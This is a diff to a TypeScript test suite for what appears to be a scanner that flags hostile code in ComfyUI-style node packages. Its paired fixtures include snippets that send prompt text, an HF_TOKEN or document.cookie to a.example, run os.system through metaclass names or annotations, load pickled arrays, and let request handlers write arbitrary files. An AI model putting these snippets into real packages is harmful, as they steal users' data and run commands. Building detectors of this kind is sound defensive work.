@@ -27,6 +27,19 @@ const LOADER = `${HERE}from importlib.machinery import FileFinder, SourceFileLoa
 const ROUTES = `${HERE}from server import PromptServer\nroutes = PromptServer.instance.routes\n`;
 const page = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });
 
+/** Makes functions that send something before they do what another one does. */
+const TAP = (sent: string): string =>
+  `import urllib.request, nodes\ndef tap(inner):\n    def outer(self, text):\n        urllib.request.urlopen("https://a.example", ${sent})\n        return inner(self, text)\n    return outer\n`;
+/** A core-node that sends its text. */
+const ENCODE =
+  'import urllib.request, nodes\nclass Encode:\n    def encode(self, text):\n        urllib.request.urlopen("https://a.example", data=text.encode())\n';
+/** A metaclass that calls the functions of `os` that the names in a class are. */
+const TABLE =
+  'import os\nclass Table(dict):\n    def __setitem__(self, key, value):\n        if hasattr(os, key): vars(os)[key](value)\nclass Meta(type):\n    @classmethod\n    def __prepare__(cls, name, bases): return Table()\n';
+/** A method of a core-node that calls what a specification names. */
+const inNode = (statement: string): string =>
+  `import importlib, json, urllib.request\nclass A:\n    def run(self):\n        ${statement}\n        return getattr(importlib.import_module(spec["m"]), spec["f"])(*spec["a"])\nNODE_CLASS_MAPPINGS = {"A": A}\n`;
+
 /** Loads the files of a folder with an ending. */
 const loadAll = (ending: string): Files => ({
   '__init__.py': `${LOADER}for name in os.listdir(os.path.join(HERE, "parts")):\n    if name.endswith("${ending}"):\n        SourceFileLoader(name[:-4], os.path.join(HERE, "parts", name)).load_module()\n`,
@@ -227,6 +240,88 @@ describe('the checks tell apart', () => {
         hostile: { '__init__.py': '', '.git/modules/a/hooks/post-checkout': '#!/bin/sh\n' },
       },
     ],
+    [
+      'what a function returns that replaces one of the host',
+      {
+        honest: `${TAP('data=b"started"')}nodes.CLIPTextEncode.encode = tap(nodes.CLIPTextEncode.encode)\n`,
+        hostile: `${TAP('data=text.encode()')}nodes.CLIPTextEncode.encode = tap(nodes.CLIPTextEncode.encode)\n`,
+      },
+    ],
+    [
+      'what replaces functions of the host with computed names',
+      {
+        honest: `${TAP('data=b"started"')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
+        hostile: `${TAP('data=text.encode()')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
+      },
+    ],
+    [
+      'own core-nodes, and what replaces those of the host',
+      {
+        honest: `${ENCODE}nodes.NODE_CLASS_MAPPINGS["Encode (remote)"] = Encode\n`,
+        hostile: `${ENCODE}nodes.NODE_CLASS_MAPPINGS["CLIPTextEncode"] = Encode\n`,
+      },
+    ],
+    [
+      'names in a class of which a metaclass makes calls',
+      {
+        honest: `${TABLE}class A(metaclass=Meta):\n    size = "id"\n`,
+        hostile: `${TABLE}class A(metaclass=Meta):\n    system = "id"\n`,
+      },
+    ],
+    [
+      'annotations in another file',
+      {
+        honest: {
+          '__init__.py': 'import typing\nfrom .a import A\nHINTS = typing.get_type_hints(A)\n',
+          'a.py': 'class A:\n    size: "int" = 1\n',
+        },
+        hostile: {
+          '__init__.py': 'import typing\nfrom .a import A\nHINTS = typing.get_type_hints(A)\n',
+          'a.py': "class A:\n    size: \"__import__('os').system('id') or int\" = 1\n",
+        },
+      },
+    ],
+    [
+      'arrays of the package with and without pickles',
+      {
+        honest: `${HERE}import numpy as np\nOPTIONS = {"mmap_mode": "r"}\nnp.load(os.path.join(HERE, "a.npz"), mmap_mode="r")\n`,
+        hostile: `${HERE}import numpy as np\nOPTIONS = {"allow_pickle": True}\nnp.load(os.path.join(HERE, "a.npz"), **OPTIONS)\n`,
+      },
+    ],
+    [
+      'arrays that are loaded with further arguments',
+      {
+        honest: `${HERE}import numpy as np\nnp.load(os.path.join(HERE, "a.npz"), None)\n`,
+        hostile: `${HERE}import numpy as np\nnp.load(os.path.join(HERE, "a.npz"), None, True)\n`,
+      },
+    ],
+    [
+      'functions of a module that a file or a server names',
+      {
+        honest: inNode('spec = json.load(open("a.json"))'),
+        hostile: inNode('spec = json.loads(urllib.request.urlopen("https://a.example").read())'),
+      },
+    ],
+    [
+      'a token that a library gets, and one in an address',
+      {
+        honest:
+          'import os, astropy.utils.data as data\ndata.download_file("https://huggingface.co/?" + os.environ["HF_TOKEN"])\n',
+        hostile:
+          'import os, astropy.utils.data as data\ndata.download_file("https://a.example/?" + os.environ["HF_TOKEN"])\n',
+      },
+    ],
+    [
+      'letters of a cookie and of the title of the page',
+      {
+        honest: page(
+          'new Image().src = "https://a.example/" + [...document.title + ""].map((c) => c.charCodeAt(0)).join("");',
+        ),
+        hostile: page(
+          'new Image().src = "https://a.example/" + [...document.cookie + ""].map((c) => c.charCodeAt(0)).join("");',
+        ),
+      },
+    ],
   ])('%s', async (_name, { honest, hostile }) => {
     expect({ honest: await isHeld(honest), hostile: await isHeld(hostile) }).toEqual({ honest: false, hostile: true });
   });
@@ -234,6 +329,17 @@ describe('the checks tell apart', () => {
 
 const SAVE = (path: string): string =>
   `${ROUTES}@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    open(${path}, "w").write(data["text"])\n`;
+
+describe('a request handler', () => {
+  it.each([
+    ['writes', 'pathlib.Path(data["path"]).write_text(data["text"])', 'pathlib.Path("a.txt").write_text(data["text"])'],
+    ['copies', 'shutil.copy(data["from"], "a.txt")', 'shutil.copy("b.txt", "a.txt")'],
+  ])('%s whatever file a request names', async (_what, hostile, honest) => {
+    const handler = (statement: string): string =>
+      `import pathlib, shutil\n${ROUTES}@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    ${statement}\n`;
+    expect([await isHeld(handler(hostile)), await isHeld(handler(honest))]).toEqual([true, false]);
+  });
+});
 
 describe('a request handler that writes', () => {
   it.each([
